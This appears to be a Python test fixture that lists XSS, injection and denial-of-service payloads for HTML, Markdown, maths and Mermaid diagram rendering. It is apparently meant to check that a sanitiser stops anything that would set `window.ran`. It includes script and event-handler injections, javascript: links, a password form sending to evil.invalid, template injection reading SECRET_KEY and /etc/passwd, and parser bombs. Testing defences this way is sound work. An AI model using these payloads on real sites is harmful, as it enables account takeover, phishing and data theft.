"""Texts that want to be more than text, by what they try. Whatever would run sets `window.ran`."""

from typing import Final

RUN: Final = "window.ran=1"

MARKUP: Final = {
    "script": f"<script>{RUN}</script>",
    "script src": "<script src=//evil.invalid/a.js></script>",
    "script module": f"<script type=module>{RUN}</script>",
    "split script": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "closed script": f"</script><script>{RUN}</script>",
    "json end": f'</script>"}}]<script>{RUN}</script>',
    "comment end": f"--><script>{RUN}</script><!--",
    "cdata": f"<![CDATA[<script>{RUN}</script>]]>",
    "image": f"<img src=x onerror={RUN}>",
    "image slash": f"<img/src=x/onerror={RUN}//",
    "image open": f"<img src=x onerror={RUN} ",
    "svg": f"<svg onload={RUN}>",
    "svg animate": f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    "svg use": "<svg><use href='data:image/svg+xml,<svg id=x><script>1</script></svg>#x'></svg>",
    "svg foreign": f"<svg><foreignObject><body onload={RUN}></foreignObject></svg>",
    "maths mutation": "<math><mtext><table><mglyph><style><img src=x onerror=window.ran=1>",
    "template": f"<template><img src=x onerror={RUN}></template>",
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    "details": f"<details open ontoggle={RUN}>x</details>",
    "video": f"<video><source onerror={RUN}></video>",
    "body": f"<body onload={RUN} onpageshow={RUN}>",
    "input": f"<input autofocus onfocus={RUN}>",
    "marquee": f"<marquee onstart={RUN}>x</marquee>",
    "iframe": f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    "iframe url": "<iframe src=javascript:parent.ran=1></iframe>",
    "object": "<object data='data:text/html,<script>1</script>'></object>",
    "embed": "<embed src=//evil.invalid/a.swf>",
    "base": "<base href=//evil.invalid/>",
    "meta": "<meta http-equiv=refresh content='0;url=//evil.invalid/'>",
    "link": "<link rel=stylesheet href=//evil.invalid/a.css>",
    "style": "<style>*{display:none!important}</style>",
    "style import": "<style>@import '//evil.invalid/a.css';</style>",
    "cover": "<div style='position:fixed;inset:0;z-index:99999;background:red'>x</div>",
    "form": "<form action=/accounts/logout/ method=post><button autofocus>Free</button></form>",
    "password": "<form action=//evil.invalid/><input type=password name=p></form>",
    "clobber": "<a id=page></a><form id=assets><input name=textContent></form><img name=body>",
    "part": '<b data-part="thread" data-part="field">x</b>',
    "popover": "<div popover=manual id=menu>x</div><button popovertarget=menu>x</button>",
    "attribute end": f'" autofocus onfocus={RUN} x="',
    "quote end": f"' onmouseover={RUN} x='",
    "entity": "&lt;script&gt;window.ran=1&lt;/script&gt;",
    "null": f"<scr\0ipt>{RUN}</script>",
    "upside": f"\u202e<img src=x onerror={RUN}>\u2066",
    "utf-7": "+ADw-script+AD4-window.ran=1+ADw-/script+AD4-",
    "expression": "{{constructor.constructor('window.ran=1')()}}${window.ran=1}",
    "django": "{% debug %}{{ settings.SECRET_KEY }}{% include '/etc/passwd' %}",
    "noncharacter": "\ufffe\U0001f600<b>",
    "long word": "w" * 4000,
    "many marks": "a" + "\u0301" * 500,
}

MARKDOWN: Final = {
    "link": f"[click](javascript:{RUN})",
    "link entity": f"[click](&#106;avascript:{RUN})",
    "link tab": f"[click](java\tscript:{RUN})",
    "link case": f"[click](JaVaScRiPt:{RUN})",
    "link data": f"[click](data:text/html,<script>{RUN}</script>)",
    "link vb": "[click](vbscript:msgbox)",
    "link blob": "[click](blob:https://evil.invalid/1)",
    "link file": "[click](file:///etc/passwd)",
    "link title": f'[click](https://example.org/ "x\\" onmouseover={RUN} y=")',
    "link quote": f'<https://example.org/"onmouseover="{RUN}>',
    "autolink": f"<javascript:{RUN}>",
    "reference": f"[click][r]\n\n[r]: javascript:{RUN} '<script>{RUN}</script>'",
    "image remote": "![x](https://evil.invalid/pixel.png)",
    "image svg": f"![x](data:image/svg+xml,<svg/onload={RUN}>)",
    "image js": f"![x](javascript:{RUN})",
    "image alt": f'![" onerror={RUN} x="](data:image/png;base64,AAAA)',
    "image in link": f"[![x](https://evil.invalid/a.png)](javascript:{RUN})",
    "code language": f'```"><img src=x onerror={RUN}>\n</code><script>{RUN}</script>\n```',
    "code language class": '```x y" onclick="window.ran=1\ncode\n```',
    "code html": f"```html\n<script>{RUN}</script><img src=x onerror={RUN}>\n```",
    "code escape": f"```js\n`</code></pre><img src=x onerror={RUN}>`\n```",
    "code prototype": "```__proto__\nx\n```\n\n```constructor\nx\n```",
    "table": f"| <img src=x onerror={RUN}> | [x](javascript:{RUN}) |\n|--:|:-:|\n| a | b |",
    "nested": "> " * 400 + "x",
    "nested lists": "- " * 300 + "x",
    "brackets": "[" * 5000,
    "stars": "*a " * 3000,
    "heading id": "# x {#page onclick=window.ran=1}",
    "footnote": f"[^1]: <img src=x onerror={RUN}>\n\nx[^1]",
}

MATHS: Final = {
    "href": f"$\\href{{javascript:{RUN}}}{{x}}$",
    "url": f"$\\url{{javascript:{RUN}}}$",
    "html": "$\\htmlData{x=1}{y}\\htmlClass{a}{b}\\htmlStyle{color:red}{c}$",
    "image": "$\\includegraphics{https://evil.invalid/a.png}$",
    "markup": f"$<img src=x onerror={RUN}>$",
    "text": f"$\\text{{<script>{RUN}</script>}}$",
    "bomb": "$\\def\\a#1{#1#1#1}\\a{\\a{\\a{\\a{\\a{\\a{\\a{\\a{\\a{x}}}}}}}}}$",
    "loop": "$\\def\\x{\\x}\\x$",
    "huge": "$\\rule{9999999em}{9999999em}\\kern-99999em x$",
    "colour": "$\\color{red;}x\\colorbox{url(//evil.invalid)}{y}$",
}

DIAGRAMS: Final = {
    "click": f'flowchart LR\n  A --> B\n  click A "javascript:{RUN}" "tip"',
    "call": f"flowchart LR\n  A --> B\n  click A call alert({RUN})",
    "label": f'flowchart LR\n  A["<img src=x onerror=parent.{RUN}>"] --> B',
    "script": f'flowchart LR\n  A["<script>parent.{RUN}</script>"] --> B',
    "init": (
        '%%{init: {"securityLevel": "loose", "htmlLabels": true}}%%\n'
        "flowchart LR\n  A[<b>x</b>] --> B"
    ),
    "theme": (
        '%%{init: {"themeCSS": "* { background: url(//evil.invalid/a) }"}}%%\n'
        "flowchart LR\n  A --> B"
    ),
    "front": "---\nconfig:\n  securityLevel: loose\n  layout: elk\n---\nflowchart LR\n  A --> B",
    "image": 'flowchart LR\n  A@{ img: "https://evil.invalid/a.png", w: 60, h: 60 } --> B',
    "style": "flowchart LR\n  A --> B\n  style A fill:url(//evil.invalid/a)",
    "entities": f'flowchart LR\n  A["#lt;img src=x onerror=parent.{RUN}#gt;"] --> B',
    "escaped": f'flowchart LR\n  A["&lt;img src=x onerror=parent.{RUN}&gt;"] --> B',
    "image key": 'flowchart LR\n  A@{ "\\x69mg": "https://evil.invalid/b.png" } --> B',
    "svg end": f"sequenceDiagram\n  A->>B: </svg><script>parent.{RUN}</script>",
    "message": "flowchart LR\n  A[\"');parent.postMessage({id:1},'*');//\"] --> B",
}

ANSWERS: Final = [
    *MARKUP.values(),
    *MARKDOWN.values(),
    *MATHS.values(),
    *(f"```mermaid\n{source}\n```" for source in DIAGRAMS.values()),
]
